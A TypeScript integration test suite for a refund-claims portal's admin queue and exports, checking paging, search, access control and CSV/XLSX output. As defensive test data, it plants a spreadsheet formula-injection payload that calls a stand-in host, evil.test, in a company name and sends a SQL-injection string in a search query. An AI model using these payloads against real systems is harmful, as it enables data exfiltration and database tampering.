import type { z } from 'zod';
import { refundSummary } from '../../../contract/entities/refund';
import { listOf } from '../../../contract/list';
import type { TestClient } from '../setup/testClient';
import { download } from '../setup/upload';
import { entryNumberOf } from './entryLines';
import { openRefundRoom, parsed, type RefundRoom } from './refundRoom';

let room: RefundRoom;
const AMOUNTS = ['9.00', '10.00', '100.00', '5.00', '25.00'];

beforeAll(async () => {
  room = await openRefundRoom();
  await room.portal.services.database.db
    .updateTable('company')
    .set({ legal_name: '=HYPERLINK("http://evil.test/?"&A1,"open"), Inc.' })
    .where('id', '=', room.people.cedar.id)
    .execute();
  const lines = await room.lines(...AMOUNTS.map((_, index) => ({ entry: 500 + index, collected: '100.00' })));
  for (const [index, customsLineId] of lines.entries())
    await room.file([{ customsLineId, amountClaimed: AMOUNTS[index] ?? '' }]);
});
afterAll(() => room.close());

type Page = z.infer<ReturnType<typeof listOf<typeof refundSummary>>>;
const page = async (query: string, client: TestClient = room.verifier): Promise<Page> => {
  const answer = await client.get(`/api/admin/refunds?${query}`);
  if (answer.status !== 200) throw new Error(answer.text);
  return listOf(refundSummary).parse(answer.body.data);
};
const amounts = ({ rows }: Page) => rows.map(({ amountClaimed }) => amountClaimed);

describe('the work queue', () => {
  it('H56 sorts amounts as amounts, over all pages', async () => {
    expect(amounts(await page('sort=amountClaimed&pageSize=2'))).toEqual(['5.00', '9.00']);
    expect(amounts(await page('sort=amountClaimed&pageSize=2&page=2'))).toEqual(['10.00', '25.00']);
    expect(amounts(await page('sort=-amountClaimed&pageSize=2'))).toEqual(['100.00', '25.00']);
  });

  it('goes on from a row by its cursor, forth and back', async () => {
    const first = await page('sort=amountClaimed&pageSize=2');
    const second = await page(`sort=amountClaimed&pageSize=2&cursor=${first.next ?? ''}`);
    expect(amounts(second)).toEqual(['10.00', '25.00']);
    expect(amounts(await page(`sort=amountClaimed&pageSize=2&cursor=${second.previous ?? ''}`))).toEqual([
      '5.00',
      '9.00',
    ]);
  });

  it('H30 says the true total on a page past the end', async () => {
    expect(await page('page=99')).toMatchObject({ rows: [], total: 5, page: 99 });
  });

  it.each([
    'page=-1',
    'page=0',
    'page=1.5',
    'page=abc',
    'pageSize=1000000',
    'pageSize=-1',
    'page=99999999999999999999',
    'page=',
    'page=1&page=2',
    'sort=secret',
  ])('H45 refuses %s', async (query) => {
    const answer = await room.user.get(`/api/refunds?${query}`);
    expect(answer.status).toBe(400);
    expect(answer.body.errors[0]?.details.length).toBeGreaterThan(10);
  });

  it('is searched by number, by a part of a name without its case, and by entry number in any spelling', async () => {
    expect((await page('q=000003')).total).toBe(1);
    expect((await page('q=hyperLINK')).total).toBe(5);
    const entry = entryNumberOf(502);
    for (const spelling of [entry, `${entry.slice(0, 3)}-${entry.slice(3, 10)}-${entry.slice(10)}`])
      expect((await page(`q=${spelling}`)).total).toBe(1);
    expect((await page('q=%25')).total).toBe(0);
    expect((await page(`q=${encodeURIComponent("' or 1=1 --")}`)).total).toBe(0);
  });

  it('is filtered by step, reason, year and exact match', async () => {
    expect((await page('status=Submitted,Verified&reason=OTHER&fiscalYear=2026')).total).toBe(5);
    expect((await page('status=Verified')).total).toBe(0);
    expect(amounts(await page('exactMatch=yes'))).toEqual(['100.00']);
    expect((await room.verifier.get('/api/admin/refunds?status=Nonsense')).status).toBe(400);
  });

  it('is not for a company’s people, whose own list holds their own', async () => {
    expect((await room.user.get('/api/admin/refunds')).status).toBe(403);
    const own = await room.user.get('/api/refunds');
    expect(own.body.data).toMatchObject({ total: 5 });
    expect((await room.pine.get('/api/refunds')).body.data).toMatchObject({ total: 0, rows: [] });
    expect((await room.user.get(`/api/refunds?companyId=${room.people.pine.id}`)).status).toBe(404);
    const named = await room.verifier.get(`/api/refunds?companyId=${room.people.cedar.id}`);
    expect(named.body.data).toMatchObject({ total: 5 });
  });

  it('says a claim is late once its decision was due', async () => {
    const [first] = (await page('sort=number')).rows;
    expect(first?.late).toBe(false);
    room.portal.clock.advance(61 * 86_400_000);
    const verifier = room.verifier;
    await verifier.signIn('verifier@northwood.example');
    expect((await page('sort=number')).rows[0]?.late).toBe(true);
    room.portal.clock.advance(-61 * 86_400_000);
    await verifier.signIn('verifier@northwood.example');
  });
});

describe('a company’s exported claims', () => {
  const own = (client = room.user, query = '') =>
    download(room.portal.url, client, `/api/refunds/export?sort=number${query}`);

  it('are those of its list, as CSV and as XLSX', async () => {
    const numbers = (
      (await room.user.get('/api/refunds?sort=number')).body.data as { rows: { number: string }[] }
    ).rows;
    const { bytes } = await own();
    const rows = bytes.toString('utf8').trimEnd().split('\r\n').slice(1);
    expect(rows.map((row) => row.split(',')[0])).toEqual(numbers.map(({ number }) => number));
    expect((await own(room.user, '&format=xlsx')).bytes.subarray(0, 2).toString('latin1')).toBe('PK');
  });

  it('are never another company’s', async () => {
    const path = `/api/refunds/export?companyId=${room.people.cedar.id}`;
    expect((await room.pine.get(path)).status).toBe(404);
    expect((await own(room.pine)).bytes.toString('utf8')).not.toContain('Cedarline');
  });
});

describe('the exported work queue', () => {
  it('H18 holds every name as text: no cell is a formula, and the comma stays in its cell', async () => {
    const { bytes, headers } = await download(
      room.portal.url,
      room.verifier,
      '/api/admin/refunds/export?sort=amountClaimed',
    );
    expect(headers.get('content-disposition')).toContain('refunds-2026-06-15.csv');
    const text = bytes.toString('utf8').replace(/^\ufeff/, '');
    const rows = text.trimEnd().split('\r\n');
    expect(rows).toHaveLength(6);
    expect(rows[1]).toContain(`"'=HYPERLINK(""http://evil.test/?""&A1,""open""), Inc."`);
    expect(rows[1]).toContain(',5.00,');
    for (const row of rows) for (const cell of row.split(',')) expect(cell).not.toMatch(/^"?[=+@]/);
  });

  it('is an XLSX workbook on request', async () => {
    const { bytes, headers } = await download(
      room.portal.url,
      room.verifier,
      '/api/admin/refunds/export?format=xlsx',
    );
    expect(headers.get('content-type')).toContain('spreadsheetml');
    expect(bytes.subarray(0, 2).toString('latin1')).toBe('PK');
  });

  it('is refused to a company’s people', async () => {
    expect((await room.user.get('/api/admin/refunds/export')).status).toBe(403);
  });
});

describe('a claim read by its company', () => {
  it('offers the actions its people may do and says who could do the others', async () => {
    const [row] = (await page('sort=number')).rows;
    const claim = parsed(await room.user.get(`/api/refunds/${row?.id ?? ''}`));
    expect(claim.actions.find(({ action }) => action === 'withdraw')).toMatchObject({ allowed: true });
    expect(claim.actions.find(({ action }) => action === 'verify')).toMatchObject({
      allowed: false,
      reason: 'role',
      whoCould: ['verifier', 'admin'],
    });
  });
});
